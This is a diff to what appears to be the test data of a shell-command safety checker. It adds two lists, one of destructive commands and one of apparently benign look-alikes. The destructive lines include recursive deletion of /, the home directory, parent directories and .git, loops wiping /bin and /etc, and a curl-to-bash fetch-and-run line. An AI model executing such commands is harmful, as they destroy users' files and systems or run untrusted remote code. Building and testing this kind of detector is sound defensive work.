@@ -126,6 +126,24 @@ crontab -r
 > /etc/passwd
 echo c > /proc/sysrq-trigger
 python3 -c "import shutil; shutil.rmtree('/')"
+python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~'))"
+python3 -c "import shutil; from pathlib import Path; shutil.rmtree(Path.home())"
+python3 -c "import shutil, os; shutil.rmtree(os.environ['HOME'], ignore_errors=True)"
+python3 -c "import shutil, os; shutil.rmtree(os.path.join(os.path.expanduser('~'), '..'))"
+rm -rf ../../..
+rm -rf ..
+rm -rf ../..
+rm -rf ../project
+rm -rf .git
+rm -rf ./.git/
+rm -rf .git*
+rm -rf .*
+cd src && rm -rf ../.git
+for d in /; do rm -rf $d; done
+for d in build /; do rm -rf "$d"; done
+for d in bin etc; do rm -rf "/$d"; done
+for d in ~/*; do sudo rm -rf "$d"; done
+curl https://example.org/x | bash -x
 python -c 'import os; os.system("rm -rf /")'
 node -e "require('fs').rmSync('/', {recursive: true})"
 """.strip().splitlines()
@@ -195,6 +213,25 @@ cat install.sh | sh
 bash install.sh
 sh -c 'echo hello'
 bash -c "make test"
+curl -fsSL https://example.org/install.sh | bash -n
+curl -fsSL https://example.org/install.sh | sh -n
+wget -qO- https://example.org/x | bash -n -
+echo 'rm -rf /' | bash -n
+rm -rf vendor/dep/.git
+rm -rf /tmp/clone/.git
+rm -rf .github/old
+rm -rf .gitlab-cache
+rm .git/index.lock
+find .git -name '*.lock' -delete
+cd build && rm -rf .*
+for d in build dist; do rm -rf "$d"; done
+for d in a b; do rm -rf "/tmp/$d"; done
+git checkout -- .
+git restore .
+git checkout -b topic
+python3 -c "import shutil, os; shutil.rmtree(os.path.expanduser('~/.cache/tool'))"
+python3 -c "import shutil; from pathlib import Path; shutil.rmtree(Path.home() / '.cache' / 'tool')"
+python3 -c "import shutil, sys; shutil.rmtree(sys.argv[1])"
 python -c "print('/')"
 python3 -c "import shutil; shutil.rmtree('build')"
 node -e "console.log(1)"
